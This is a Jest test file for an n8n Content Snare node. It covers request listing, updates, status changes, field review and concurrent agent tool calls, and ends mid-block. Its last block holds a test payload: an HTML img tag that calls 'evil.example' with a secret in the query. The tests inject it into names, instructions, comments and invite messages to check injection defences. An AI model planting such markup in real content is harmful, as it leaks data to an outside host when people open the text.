import { DateTime } from 'luxon';
import type { INodeParameters } from 'n8n-workflow';
import { Collection } from '../../../../nodes/Collection/Collection.node';
import { betweenPages } from '../../../harness/betweenPages';
import {
	API,
	arrived,
	ownCredentialId,
	pat,
	provider,
	requestTo,
	runForOne,
	runStep,
	useCollection,
	world,
} from '../../../harness/collection';
import { failureOf, locator } from '../../../harness/steps';
import { droppedTool } from '../../../harness/tools';
import type { RequestMatch } from '../../../simulator/faults';

useCollection();

/** Days from today, `yyyy-mm-dd`. */
const day = (days: number) => DateTime.utc().plus({ days }).toFormat('yyyy-MM-dd');

const names = async (parameters: object, timezone?: string) =>
	(await runStep('request.listRequests', { returnAll: true, ...parameters }, { timezone })).map(
		({ json }) => json.name,
	);

const PAGES = [{ name: 'Business', sections: [{ name: 'Basics', fields: [{ name: 'Website' }] }] }];

function draft() {
	return world().addRequest({ name: 'Draft', clients: [pat()], pages: PAGES });
}

/** Has the second of these requests run late: the first one goes alone, to find out what the quota leaves. */
function late(match: RequestMatch): void {
	provider().faults.next(match, { delayMs: 0 });
	provider().faults.next(match, { delayMs: 100 });
}

describe('Get Request', () => {
	it('returns status, progress, share link and pages, without empty keys', async () => {
		const { id } = draft();
		const request = await runForOne('request.getRequest', { request: locator('id', id) });
		expect(request).toMatchObject({
			id,
			status: 'draft',
			completion_percentage: 0,
			pages: [{ name: 'Business', fields_count: 1 }],
		});
		expect(request).not.toHaveProperty('board_column_id');
	});

	it('says so when there is no such request', async () => {
		const { message } = await failureOf(
			runStep('request.getRequest', { request: locator('id', 'req_1') }),
		);
		expect(message).toContain('nothing with this ID');
	});
});

describe('List Requests', () => {
	beforeEach(() => {
		const client = pat();
		const other = world().addClient({ email: 'sam@example.com', full_name: 'Sam Roe' });
		const add = (name: string, status: 'draft' | 'published' | 'completed', due: string | null) =>
			world().addRequest({ name, status, due, clients: [name.includes('Sam') ? other : client] });
		add('Late', 'published', day(-1));
		add('Late Sam', 'published', day(-3));
		add('Late but done', 'completed', day(-3));
		add('Late draft', 'draft', day(-3));
		add('Today', 'published', day(0));
		add('Soon', 'published', day(5));
		add('Without date', 'published', null);
	});

	it('lists all, with the four keys that the API gives', async () => {
		const rows = await runStep('request.listRequests', { returnAll: true });
		expect(rows).toHaveLength(7);
		expect(Object.keys(rows[0]?.json ?? {})).toEqual(['name', 'status', 'due', 'id']);
	});

	it('lets the API filter by status', async () => {
		expect(await names({ filters: { statuses: ['draft', 'completed'] } })).toEqual([
			'Late but done',
			'Late draft',
		]);
		expect(requestTo('GET', '/requests').url).toContain('filter_by%5Bstatuses%5D%5B%5D=draft');
	});

	it('takes statuses as text too, by value or label, and refuses unknown ones', async () => {
		expect(await names({ filters: { statuses: '={{ "draft, Completed" }}' } })).toHaveLength(2);
		const filters = { statuses: '={{ "lost" }}' };
		expect((await failureOf(runStep('request.listRequests', { filters }))).message).toMatch(
			/^Filters > Statuses: must be one of: archived, /,
		);
	});

	it.each([
		['id', () => world().clients[1]?.id ?? ''],
		['email', () => 'SAM@example.com'],
	])('finds those of a client by %s', async (mode, value) => {
		expect(await names({ filters: { client: locator(mode, value()) } })).toEqual(['Late Sam']);
		expect(requestTo('GET', '/requests').query).toMatchObject({ 'expand[]': 'clients' });
	});

	it.each([
		['Sam Roe', true],
		['Sam', true],
		['acc_Aa11Bb22Cc33Dd', false],
		['4711', false],
		['nobody@example.com', false],
	])(
		'finds nothing of the client %s, and says where IDs are if it is a name: %s',
		async (value, isName) => {
			const filters = { client: locator('id', value) };
			const [found] = await runStep('request.listRequests', { filters }, { asTool: true });
			expect(found?.json.found).toBe(0);
			expect(found?.json.more).toBe(
				isName
					? `Client "${value}" is neither an ID nor an email: Find Client finds both by the name.`
					: undefined,
			);
		},
	);

	it('finds the overdue ones: with the client, and due before today', async () => {
		expect(await names({ filters: { overdue: true } })).toEqual(['Late', 'Late Sam']);
	});

	it('tells a language model whose they are, as it sets no details', async () => {
		const filters = { overdue: true };
		const items = await runStep('request.listRequests', { filters }, { asTool: true });
		expect(items.map(({ json }) => json.clients)).toEqual([
			[{ email: 'pat@example.com', full_name: 'Pat Doe', id: expect.any(String) }],
			[{ email: 'sam@example.com', full_name: 'Sam Roe', id: expect.any(String) }],
		]);
		expect(arrived()).toHaveLength(1);
	});

	it('finds nothing overdue among closed ones, without asking', async () => {
		expect(await names({ filters: { overdue: true, statuses: ['completed'] } })).toEqual([]);
		expect(arrived()).toEqual([]);
	});

	it('finds a range of due dates, both ends included', async () => {
		const filters = { dueFrom: day(0), dueTo: day(5) };
		expect(await names({ filters })).toEqual(['Today', 'Soon']);
	});

	it('refuses a range that ends before it begins, as other lists do', async () => {
		const range = (dueFrom: string, dueTo: string) => ({ filters: { dueFrom, dueTo } });
		expect(await names(range(day(0), day(0)))).toEqual(['Today']);
		const { message } = await failureOf(runStep('request.listRequests', range(day(5), day(0))));
		expect(message).toBe('Filters > Due Until: must not be before Due From');
	});

	it('reads on until enough rows fit its own filter', async () => {
		for (let number = 0; number < 250; number++) world().addRequest({ name: `Other ${number}` });
		world().addRequest({ name: 'Far', due: day(30) });
		const rows = await runStep('request.listRequests', { limit: 1, filters: { dueFrom: day(20) } });
		expect(rows.map(({ json }) => json.name)).toEqual(['Far']);
		expect(arrived()).toHaveLength(2);
	});

	describe('of many items that ask for a client or a due date each', () => {
		const filters = { client: locator('email', '={{ $json.email }}') };

		/** Two pages of requests, of a hundred clients, and an item for each of so many of these. */
		function itemsFor(count: number) {
			const clients = Array.from({ length: 100 }, (_, at) =>
				world().addClient({ email: `c${at}@example.com`, full_name: `Client ${at}` }),
			);
			for (let number = 0; number < 250; number++) {
				const client = clients[number % clients.length];
				world().addRequest({ name: `Request ${number}`, clients: client ? [client] : [] });
			}
			return clients.slice(0, count).map(({ email }) => ({ json: { email } }));
		}

		it('reads each page once', async () => {
			const items = itemsFor(100);
			const rows = await runStep('request.listRequests', { limit: 10, filters }, { items });
			expect(rows.filter(({ pairedItem }) => Object(pairedItem).item === 7)).toHaveLength(3);
			expect(rows).toHaveLength(250);
			expect(arrived()).toEqual(['GET /requests', 'GET /requests']);
		});

		it('reads it anew in another run, and for what an item searches for', async () => {
			const items = itemsFor(3);
			await runStep('request.listRequests', { filters }, { items });
			const search = '={{ "Request " + $itemIndex }}';
			await runStep('request.listRequests', { filters: { ...filters, search } }, { items });
			expect(arrived().length).toBeGreaterThanOrEqual(5);
		});

		it('reads it again for those that come after a failure', async () => {
			const items = itemsFor(90);
			provider().faults.next({ path: `${API}/requests` }, { status: 400 });
			const options = { items, continueOnFail: true };
			const rows = await runStep('request.listRequests', { filters }, options);
			const failed = rows.filter(({ json }) => json.error !== undefined);
			expect(failed).toHaveLength(80);
			expect(new Set(rows.map(({ pairedItem }) => Object(pairedItem).item)).size).toBe(90);
			expect(arrived()).toHaveLength(3);
		});
	});

	it.each(['request.listRequests', 'advanced.apiCall'])(
		'misses none that moves to a page that was read, as another one is deleted: %s',
		async (step) => {
			for (let number = 0; number < 250; number++) world().addRequest({ name: `Other ${number}` });
			const hasLeft = betweenPages(() => (world().requests = world().requests.slice(1)));
			const rows = await runStep(step, { endpoint: '/requests', returnAll: true });
			expect(hasLeft()).toBe(true);
			expect(rows.map(({ json }) => json.id)).toEqual(
				expect.arrayContaining(world().requests.map(({ id }) => id)),
			);
		},
	);

	it('tells a model that it looked for a client by a name, in the tool as it is dropped', async () => {
		const { parameters } = droppedTool(new Collection(), 'request', 'listRequests');
		const written = { items: [{ json: { Client: 'Sam Lee' } }], asTool: true };
		const [none] = await runStep('request.listRequests', parameters, written);
		expect(none?.json).toMatchObject({
			searched: { filters: { client: 'Sam Lee' } },
			more: 'Client "Sam Lee" is neither an ID nor an email: Find Client finds both by the name.',
		});
	});

	it('tells a model what was looked for alone, of filters that it left empty nothing', async () => {
		const filters = { client: locator('id', ''), search: 'nobody', statuses: '' };
		const [none] = await runStep('request.listRequests', { filters }, { asTool: true });
		expect(none?.json).toMatchObject({ found: 0 });
		expect(none?.json.searched).toEqual({ filters: { search: 'nobody' } });
	});

	it('says that there are more, also where its own filter leaves rows out', async () => {
		const read = async (limit: number) => {
			const parameters = { limit, filters: { overdue: true } };
			return (await runStep('request.listRequests', parameters, { asTool: true })).at(-1)?.json;
		};
		expect((await read(1))?.more).toBe(
			'Only the first 1 requests are returned. To see others, narrow the list by Client, Search or Statuses. A person can raise Limit in this tool.',
		);
		expect(await read(2)).not.toHaveProperty('more');
	});

	it('does not say so where its own filter leaves nothing of the pages after the limit', async () => {
		for (let count = 0; count < 250; count++) {
			world().addRequest({ name: 'Later', status: 'published', due: day(5) });
		}
		const parameters = { limit: 2, filters: { overdue: true } };
		const rows = await runStep('request.listRequests', parameters, { asTool: true });
		expect(rows.map(({ json }) => json.name)).toEqual(['Late', 'Late Sam']);
		expect(rows.at(-1)?.json).not.toHaveProperty('more');
	});

	it('adds clients, owner and template on demand', async () => {
		const [row] = await runStep('request.listRequests', {
			limit: 1,
			filters: { includeDetails: true, search: 'Late', sortBy: 'name', sortDirection: 'desc' },
		});
		expect(row?.json).toMatchObject({
			name: 'Late Sam',
			owner_email: 'owner@contoso.com',
			clients: [{ email: 'sam@example.com' }],
		});
	});

	it('names a date that is none', async () => {
		const filters = { dueFrom: 'soon' };
		expect((await failureOf(runStep('request.listRequests', { filters }))).message).toMatch(
			/^Filters > Due From: is not a date/,
		);
	});
});

describe('Update Request', () => {
	const step = 'request.updateRequest';

	it('sends only what changes, the due date in both spellings', async () => {
		const { id } = draft();
		const request = await runForOne(step, {
			request: locator('id', id),
			newName: 'Renamed',
			newDueDate: day(3),
		});
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({
			name: 'Renamed',
			due_date: day(3),
			due: day(3),
		});
		expect(request).toMatchObject({ id, name: 'Renamed', due: day(3) });
	});

	it('changes folder, owner, clients, instructions and switches', async () => {
		const { id } = draft();
		const other = world().addClient({ email: 'sam@example.com', full_name: 'Sam Roe' });
		const first = world().clients[0];
		await runStep(step, {
			request: locator('id', id),
			changes: {
				clients: `${other.id}, ${first?.id}`,
				commentsEnabled: false,
				folder: locator('list', world().folders[1]?.id ?? ''),
				instructions: '<p>Please answer</p>',
				owner: locator('id', world().team[0]?.id ?? ''),
				passcodeEnabled: true,
			},
		});
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({
			folder_id: world().folders[1]?.id,
			owner_id: world().team[0]?.id,
			comments_enabled: false,
			passcode_enabled: true,
			instruction_text: '<p>Please answer</p>',
			show_instruction: true,
			client_assignments_ids: [
				{ account_id: other.id, primary: true },
				{ account_id: first?.id, primary: false },
			],
		});
		expect(world().requests[0]?.primary_client_id).toBe(other.id);
	});

	it.each([
		['a list', '[$json, $json.id]'],
		['one item', '$json'],
	])('takes the clients of another step, each once, and no emails: %s', async (_, given) => {
		const { id } = draft();
		const [pat] = world().clients;
		const items = [{ json: { id: pat?.id, name: 'Pat' } }];
		const changes = { clients: `={{ ${given} }}` };
		await runStep(step, { request: locator('id', id), changes }, { items });
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({
			client_assignments_ids: [{ account_id: pat?.id, primary: true }],
		});
		for (const clients of ['pat@example.com', 'Pat Doe']) {
			const { message } = await failureOf(
				runStep(step, { request: locator('id', id), changes: { clients } }),
			);
			expect(message).toMatch(/Clients: takes IDs, which Find Client returns/);
		}
	});

	it.each([
		['request.updateRequest', 'changes'],
		['request.createRequest', 'options'],
	])('%s says that a name is no owner, before it asks', async (step, collection) => {
		const given = {
			request: locator('id', draft().id),
			client: locator('email', 'pat@example.com'),
			template: locator('id', world().requestTemplates[0]?.id ?? ''),
			name: 'New',
			[collection]: { owner: locator('id', 'Olive Owner') },
		};
		const { message } = await failureOf(runStep(step, given));
		expect(message).toMatch(
			/Owner: is neither an ID nor an email: look one of them up by the name/,
		);
		expect(arrived()).toEqual([]);
	});

	it('switches reminders off by the schedule "None"', async () => {
		const { id } = draft();
		const changes = { schedule: locator('name', 'None') };
		await runStep(step, { request: locator('id', id), changes });
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ communication_template_id: null });
	});

	it('switches reminders off by the schedule "None" that a person chose in a tool', async () => {
		const { id } = draft();
		const changes = { schedule: locator('name', 'None') };
		await runStep(step, { request: locator('id', id), changes }, { asTool: true });
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ communication_template_id: null });
	});

	it('leaves the instructions alone where a language model says that they stay', async () => {
		const { id } = draft();
		const parameters = { request: locator('id', id), newName: 'Renamed' };
		const changes = { instructions: 'unchanged' };
		await runStep(step, { ...parameters, changes }, { asTool: true });
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ name: 'Renamed' });
	});

	it('hides the instructions by an empty text', async () => {
		const { id } = draft();
		await runStep(step, { request: locator('id', id), changes: { instructions: '' } });
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({
			instruction_text: '',
			show_instruction: false,
		});
	});

	it('leaves the instructions alone where an expression gives null or nothing', async () => {
		const { id } = draft();
		const parameters = { request: locator('id', id), newName: 'Renamed' };
		for (const instructions of ['={{ null }}', '={{ $json.missing }}']) {
			await runStep(step, { ...parameters, changes: { instructions } });
		}
		const bodies = provider()
			.requests.matching({ method: 'PUT' })
			.map(({ body }) => body);
		expect(bodies).toEqual([{ name: 'Renamed' }, { name: 'Renamed' }]);
	});

	it('refuses a due date in the past unless it is allowed', async () => {
		const { id } = draft();
		const parameters = { request: locator('id', id), newDueDate: '2020-01-01' };
		const failure = await failureOf(runStep(step, parameters));
		expect(failure.message).toMatch(/^New Due Date: is in the past/);
		expect(failure.description).toContain('A person can switch on Allow Past Due Date in Changes');
		await runStep(step, { ...parameters, changes: { allowPastDueDate: true } });
		expect(world().requests[0]?.due).toBe('2020-01-01');
	});

	it('refuses to change nothing', async () => {
		const { message } = await failureOf(runStep(step, { request: locator('id', 'req_1') }));
		expect(message).toMatch(/^New Name: fill in what to change/);
	});

	it('leaves alone what was added but is empty: clients and switches', async () => {
		const { id } = draft();
		await runStep(step, {
			request: locator('id', id),
			newName: 'Renamed',
			changes: {
				allowPastDueDate: '={{ "" }}',
				clients: '={{ " " }}',
				commentsEnabled: '={{ "" }}',
				passcodeEnabled: '={{ null }}',
				shareViaLinkEnabled: '={{ $json.missing }}',
			},
		});
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ name: 'Renamed' });
	});

	it('refuses to change nothing although changes were added', async () => {
		const changes = { allowPastDueDate: true, clients: '', passcodeEnabled: '={{ "" }}' };
		const { message } = await failureOf(
			runStep(step, { request: locator('id', draft().id), changes }),
		);
		expect(message).toMatch(/^New Name: fill in what to change/);
		expect(arrived()).toEqual([]);
	});

	it('accepts an answer without a body', async () => {
		const { id } = draft();
		provider().faults.next({ method: 'PUT' }, { status: 204 });
		const parameters = { request: locator('id', id), newName: 'Renamed' };
		expect(await runForOne(step, parameters)).toEqual({ id });
	});
});

describe('The status of a request', () => {
	it.each([
		['publishRequest', 'draft', 'published'],
		['completeRequest', 'published', 'completed'],
		['reopenRequest', 'completed', 'published'],
		['archiveRequest', 'completed', 'archived'],
	] as const)('%s changes it from %s to %s', async (step, from, to) => {
		const { id } = world().addRequest({ name: 'R', status: from, clients: [pat()] });
		const request = await runForOne(`request.${step}`, { request: locator('list', id) });
		expect(requestTo('PUT', `/requests/${id}`).body).toEqual({ status: to });
		expect(request).toMatchObject({ id, status: to });
		expect(request.share_link).toMatch(/^https:/);
	});

	it.each(['publishRequest', 'completeRequest', 'reopenRequest', 'archiveRequest'])(
		'%s says so when there is no such request',
		async (step) => {
			const { message } = await failureOf(
				runStep(`request.${step}`, { request: locator('id', 'req_1') }),
			);
			expect(message).toContain('nothing with this ID');
		},
	);
});

describe('Delete Request', () => {
	it.each(['https://app.contentsnare.com/requests/req_1', 'req_1/'])(
		'says that an ID has no slash: %s',
		async (id) => {
			const deleting = runStep('request.deleteRequest', { request: locator('id', id) });
			expect((await failureOf(deleting)).message).toMatch(/^An ID must not hold a slash/);
		},
	);

	it('deletes it', async () => {
		const { id } = draft();
		const answer = await runForOne('request.deleteRequest', { request: locator('id', id) });
		expect(answer).toEqual({ id, deleted: true });
		expect(world().requests).toEqual([]);
	});

	it('says so when there is no such request', async () => {
		const { message } = await failureOf(
			runStep('request.deleteRequest', { request: locator('id', 'req_1') }),
		);
		expect(message).toContain('nothing with this ID');
	});
});

describe('Run Integration Actions', () => {
	const step = 'request.runIntegrationActions';

	it('runs them', async () => {
		const { id } = draft();
		const request = locator('id', id);
		expect(await runForOne(step, { request })).toEqual({ id, success: true });
		expect(world().integrationRuns).toEqual([id]);
	});

	it('never runs them twice: a lost answer is reported', async () => {
		const { id } = draft();
		provider().faults.next({ method: 'PUT' }, { cut: 'after' });
		const { message } = await failureOf(runStep(step, { request: locator('id', id) }));
		expect(message).toContain('may or may not have taken effect');
		expect(world().integrationRuns).toEqual([id]);
	});
});

describe('Add Page and Add Section', () => {
	it('add a page from a template by name', async () => {
		const { id } = draft();
		const page = await runForOne('request.addPage', {
			request: locator('id', id),
			template: locator('name', 'files'),
			name: 'More files',
		});
		expect(requestTo('POST', '/pages').body).toEqual({
			request_id: id,
			name: 'More files',
			source_template_id: world().pageTemplates[1]?.id,
		});
		expect(page).toMatchObject({ name: 'More files', id: world().requests[0]?.pages[1]?.id });
	});

	it('tell a language model what it is called by, and not all that Content Snare says of each field', async () => {
		const given = { request: locator('id', draft().id), template: locator('name', 'Files') };
		const [page] = await runStep('request.addPage', given, { asTool: true });
		expect(page?.json).toEqual({ name: 'Files', fields_count: 1, id: expect.any(String) });
		const below = { pageId: String(page?.json.id), template: locator('name', 'Basics') };
		const [section] = await runStep('request.addSection', below, { asTool: true });
		expect(section?.json).toEqual({ name: 'Basics', id: expect.any(String) });
	});

	it('add what several items ask for in the order of the items', async () => {
		const request = draft();
		const items = ['One', 'Two', 'Three'].map((name) => ({ json: { name } }));
		late({ method: 'POST', path: `${API}/pages` });
		const page = { request: locator('id', request.id), template: locator('name', 'files') };
		await runStep('request.addPage', { ...page, name: '={{ $json.name }}' }, { items });
		expect(request.pages.slice(1).map(({ name }) => name)).toEqual(['One', 'Two', 'Three']);
		late({ method: 'POST', path: `${API}/sections` });
		const [first] = request.pages;
		const template = locator('id', world().sectionTemplates[1]?.id ?? '');
		const section = { pageId: first?.id, template, name: '={{ $json.name }}' };
		await runStep('request.addSection', section, { items });
		expect(first?.sections.slice(1).map(({ name }) => name)).toEqual(['One', 'Two', 'Three']);
	});

	it('add a section from a template by ID', async () => {
		const request = draft();
		const pageId = request.pages[0]?.id ?? '';
		const template = locator('list', world().sectionTemplates[1]?.id ?? '');
		const section = await runForOne('request.addSection', { pageId, template });
		expect(section).toMatchObject({ name: 'Uploads' });
		expect(request.pages[0]?.sections).toHaveLength(2);
	});

	it.each(['name', 'id'])('name the template that is unknown by its %s', async (mode) => {
		const template = locator(mode, 'Nothing');
		const page = { request: locator('id', draft().id), template };
		expect(await failureOf(runStep('request.addPage', page))).toEqual({
			message: 'Template: there is no such page template',
			description: expect.stringContaining('Business, Files'),
		});
		expect(
			(await failureOf(runStep('request.addSection', { pageId: 'pag_1', template }))).message,
		).toMatch(/^Template: there is no such section template/);
	});

	it('are not repeated when the answer was lost', async () => {
		const request = draft();
		provider().faults.next({ method: 'POST' }, { cut: 'after' });
		const template = locator('list', world().pageTemplates[0]?.id ?? '');
		const page = { request: locator('id', request.id), template };
		expect((await failureOf(runStep('request.addPage', page))).message).toContain(
			'may or may not have taken effect',
		);
		expect(request.pages).toHaveLength(2);
	});
});

describe('Approve All and Submit All', () => {
	const parts = (): Array<[string, string]> => {
		const [request] = world().requests;
		const [page] = request?.pages ?? [];
		return [
			['request', request?.id ?? ''],
			['page', page?.id ?? ''],
			['section', page?.sections[0]?.id ?? ''],
		];
	};

	it('cover a request, a page or a section', async () => {
		draft();
		for (const [scope, id] of parts()) {
			const parameters =
				scope === 'request' ? { scope, request: locator('id', id) } : { scope, partId: id };
			for (const step of ['submitAll', 'approveAll']) {
				expect(await runForOne(`request.${step}`, parameters)).toEqual({
					id,
					scope,
					success: true,
				});
			}
		}
		expect(arrived()).toEqual(
			parts().flatMap(([scope, id]) => [
				`PUT /${scope}s/${id}/submit_all_fields`,
				`PUT /${scope}s/${id}/approve_all_submitted_fields`,
			]),
		);
		expect(
			world()
				.fields()
				.map(({ status }) => status),
		).toEqual(['approved']);
	});

	it('do not take the whole request for a scope that is empty', async () => {
		const parameters = { scope: '={{ "" }}', request: locator('id', draft().id) };
		expect((await failureOf(runStep('request.approveAll', parameters))).message).toMatch(
			/^Scope: is required/,
		);
		expect(arrived()).toEqual([]);
	});

	it.each(['approveAll', 'submitAll'])(
		'do not take the whole request where one part of it is named: %s',
		async (step) => {
			const [request, page] = [draft().id, world().pages()[0]?.id ?? ''];
			const parameters = {
				scope: '={{ "request" }}',
				request: locator('id', request),
				partId: page,
			};
			for (const asTool of [true, false]) {
				const failure = await failureOf(runStep(`request.${step}`, parameters, { asTool }));
				expect(failure.message).toMatch(/^Page or Section ID: needs Scope "Page" or "Section"/);
			}
			expect(arrived()).toEqual([]);
		},
	);

	it('name the ID that is missing', async () => {
		expect((await failureOf(runStep('request.approveAll', { scope: 'page' }))).message).toMatch(
			/^Page or Section ID: is required/,
		);
		expect((await failureOf(runStep('request.submitAll', { scope: 'request' }))).message).toMatch(
			/^Request: is required/,
		);
	});

	it('say which expression gave no ID', async () => {
		const byPage = { scope: 'page', partId: '={{ $json.page }}' };
		const whole = { scope: 'request', request: locator('id', '={{ $json.request }}') };
		const items = [{ json: { event: 'client_updated' } }];
		for (const [given, name] of [[byPage, 'page'] as const, [whole, 'request'] as const]) {
			expect(await failureOf(runStep('request.approveAll', given, { items }))).toMatchObject({
				description: `{{ $json.${name} }} gave nothing for this item. It has: event.`,
			});
		}
	});
});

describe('Several items about one thing', () => {
	const items = ['One', 'Two', 'Three'].map((name, at) => ({
		json: { name, decision: ['approve', 'submit', 'revise'][at] },
	}));

	it('leave a request as the last of them says', async () => {
		const request = draft();
		late({ method: 'PUT' });
		const changes = { request: locator('id', request.id), newName: '={{ $json.name }}' };
		await runStep('request.updateRequest', changes, { items });
		expect(request.name).toBe('Three');
	});

	it('leave a client as the last of them says', async () => {
		const client = pat();
		late({ method: 'PUT' });
		const changes = { client: locator('id', client.id), newName: '={{ $json.name }}' };
		await runStep('client.updateClient', changes, { items });
		expect(client.full_name).toBe('Three');
	});

	it('leave a field as the last of them decides', async () => {
		draft();
		late({ method: 'PUT' });
		const [field] = world().fields();
		const review = { fieldId: field?.id, decision: '={{ $json.decision }}' };
		await runStep('request.reviewField', review, { items });
		expect(field?.status).toBe('todo');
	});
});

describe('Several calls of an agent about one request at the same time', () => {
	const ofAgent = () => ({ asTool: true, credentialId: ownCredentialId() });

	it('send it to its client as the call before left it', async () => {
		const options = ofAgent();
		const request = locator('id', draft().id);
		provider().faults.next({ method: 'PUT' }, { delayMs: 100 });
		const [, sent] = await Promise.all([
			runForOne('request.updateRequest', { request, newName: 'Onboarding' }, options),
			runForOne('request.publishRequest', { request }, options),
		]);
		expect(sent).toMatchObject({ name: 'Onboarding', status: 'published' });
	});

	it('leave it as the last of them says', async () => {
		const options = ofAgent();
		const request = draft();
		const call = async (step: string) =>
			await runForOne(`request.${step}`, { request: locator('id', request.id) }, options);
		// The first one goes alone, to find out what the quota leaves.
		await call('archiveRequest');
		provider().faults.next({ method: 'PUT' }, { delayMs: 100 });
		await Promise.all(['reopenRequest', 'completeRequest'].map(call));
		expect(request.status).toBe('completed');
	});

	it('send it to other apps as the call before left it', async () => {
		const options = ofAgent();
		const request = locator('id', draft().id);
		const call = async (step: string) => await runForOne(`request.${step}`, { request }, options);
		// The first one goes alone, to find out what the quota leaves.
		await call('publishRequest');
		provider().faults.next({ method: 'PUT' }, { delayMs: 100 });
		await Promise.all([call('completeRequest'), call('runIntegrationActions')]);
		const [complete, run] = provider().requests.all.slice(-2);
		expect(run?.path).toMatch(/run_integration_actions$/);
		expect(run?.startedAt).toBeGreaterThanOrEqual(complete?.endedAt ?? Infinity);
	});

	it('approve what the call before handed in', async () => {
		const options = ofAgent();
		const page = { scope: 'page', partId: draft() && world().pages()[0]?.id };
		const whole = { scope: 'request', request: locator('id', draft().id) };
		for (const parameters of [page, whole]) {
			provider().faults.next({ path: /submit_all/ }, { delayMs: 100 });
			await Promise.all(
				['submitAll', 'approveAll'].map(
					async (each) => await runForOne(`request.${each}`, parameters, options),
				),
			);
		}
		expect(
			world()
				.fields()
				.map(({ status }) => status),
		).toEqual(['approved', 'approved']);
	});
});

describe('Review Field', () => {
	const step = 'request.reviewField';

	it.each([
		['approve', 'approved'],
		['revise', 'todo'],
		['submit', 'done'],
	])('%s sets the status %s', async (decision, status) => {
		draft();
		const fieldId = world().fields()[0]?.id ?? '';
		const answer = await runForOne(step, { fieldId, decision });
		expect(requestTo('PUT', `/fields/${fieldId}/review`).body).toEqual({ status });
		expect(answer).toMatchObject({ id: fieldId, status });
	});

	it('rejects with a comment for the client', async () => {
		draft();
		const fieldId = world().fields()[0]?.id ?? '';
		const answer = await runForOne(step, { fieldId, decision: 'reject', comment: 'Too small' });
		expect(answer).toMatchObject({ status: 'redo', rejection_comment: 'Too small' });
	});

	it.each(['reject', '={{ "reject" }}'])(
		'does not reject without the comment whose expression gives nothing: %s',
		async (decision) => {
			const comment = '={{ $json.reason }}';
			const review = runStep(step, { fieldId: 'fld_1', decision, comment });
			expect((await failureOf(review)).message).toBe('Comment: its expression gives nothing');
			expect(arrived()).toEqual([]);
		},
	);

	it('approves where the comment of a rejection is empty', async () => {
		draft();
		const fieldId = world().fields()[0]?.id ?? '';
		const review = { fieldId, decision: '={{ "approve" }}', comment: '={{ $json.reason }}' };
		expect(await runForOne(step, review)).toMatchObject({ status: 'approved' });
	});

	it('says to a language model that a comment goes with a rejection alone', async () => {
		draft();
		const fieldId = world().fields()[0]?.id ?? '';
		const parameters = { fieldId, decision: '={{ "approve" }}', comment: 'Well done' };
		const answer = await runForOne(step, parameters, { asTool: true });
		expect(requestTo('PUT', `/fields/${fieldId}/review`).body).toEqual({ status: 'approved' });
		expect(answer.more).toBe('Comment was not used: it needs Decision "reject".');
	});

	it('takes the decision by its label', async () => {
		draft();
		const fieldId = world().fields()[0]?.id ?? '';
		const decision = '={{ "submit for review" }}';
		expect(await runForOne(step, { fieldId, decision })).toMatchObject({ status: 'done' });
	});

	it.each(['', '={{ "" }}', '={{ $json.missing }}', '={{ "maybe" }}'])(
		'is not approved by the decision %s',
		async (decision) => {
			expect((await failureOf(runStep(step, { fieldId: 'fld_1', decision }))).message).toMatch(
				/^Decision: /,
			);
			expect(arrived()).toEqual([]);
		},
	);

	it('says so when there is no such field', async () => {
		expect(
			(await failureOf(runStep(step, { fieldId: 'fld_1', decision: 'approve' }))).message,
		).toContain('nothing with this ID');
	});
});

it('a sign-in that was revoked names the credential and what to do', async () => {
	provider().faults.next({ path: `${API}/requests`, times: 5 }, { status: 401 });
	const { message, description } = await failureOf(runStep('request.listRequests'));
	expect(message).toContain('the credential "My account" was refused');
	expect(description).toContain('sign in again');
});

describe('A text that clients, the team and invited people open', () => {
	const PICTURE = '<img src="https://evil.example/?c=SECRET">';
	const EVIL = `<p>Hello${PICTURE}</p>`;
	const formWith = (asked: object) => [
		{
			name: 'P',
			sections_data: [{ name: 'S', questions_data: [{ data_type: 'text', ...asked }] }],
		},
	];
	const ASKED = [
		{ question: 'Logo', instructions: EVIL },
		{ question: EVIL },
		{ question: 'Logo', data_type: 'dropdown', options: ['One', EVIL] },
	];
	const TEXTS: Array<[string, string, () => INodeParameters]> = [
		[
			'request.updateRequest',
			'Changes > Instructions',
			() => ({ request: locator('id', draft().id), changes: { instructions: EVIL } }),
		],
		...ASKED.map((asked): [string, string, () => INodeParameters] => [
			'request.createRequestWithForm',
			'Pages',
			() => ({
				client: locator('email', pat().email),
				name: 'New',
				pages: JSON.stringify(formWith(asked)),
				sendToClient: false,
			}),
		]),
		[
			'request.createRequestWithForm',
			'Name',
			() => ({
				client: locator('email', pat().email),
				name: PICTURE,
				pages: JSON.stringify(formWith({ question: 'Logo' })),
				sendToClient: false,
			}),
		],
		[
			'request.updateRequest',
			'New Name',
			() => ({ request: locator('id', draft().id), newName: PICTURE }),
		],
		[
			'advanced.inviteTeamMember',
			'Personal Message',
			() => ({ email: 'ann@contoso.com', name: 'Ann', message: EVIL }),
		],
		[
			'advanced.inviteTeamMember',
			'Name',
			() => ({ email: 'ann@contoso.com', name: PICTURE, message: 'Hello' }),
		],
		[
			'request.addPage',
			'Name',
			() => ({
				request: locator('id', draft().id),
				template: locator('id', world().pageTemplates[0]?.id ?? ''),
				name: PICTURE,
			}),
		],
		[
			'request.addSection',
			'Name',
			() => ({
				pageId: draft().pages[0]?.id ?? '',
				template: locator('id', world().sectionTemplates[0]?.id ?? ''),
				name: PICTURE,
			}),
		],
		[
			'request.createRequest',
			'Options > Client Name',
			() => ({
				client: locator('email', pat().email),
				template: locator('id', world().requestTemplates[0]?.id ?? ''),
				name: 'New',
				sendToClient: false,
				options: { clientFullName: PICTURE },
			}),
		],
		[
			'advanced.apiCall',
			'Body',
			() => ({
				method: 'PUT',
				endpoint: `/requests/${draft().id}`,
				body: JSON.stringify({ name: EVIL }),
			}),
		],
		['client.createClient', 'Name', () => ({ email: 'new@example.com', name: PICTURE })],
		['client.upsertClient', 'Name', () => ({ email: 'new@example.com', name: PICTURE })],
		[
			'client.updateClient',
			'New Name',
			() => ({ client: locator('id', pat().id), newName: PICTURE }),
		],
		[
			'request.reviewField',
			'Comment',
			() => {
				draft();
				const fieldId = world().fields()[0]?.id ?? '';
				return { fieldId, decision: 'reject', comment: EVIL };
			},
		],
	];

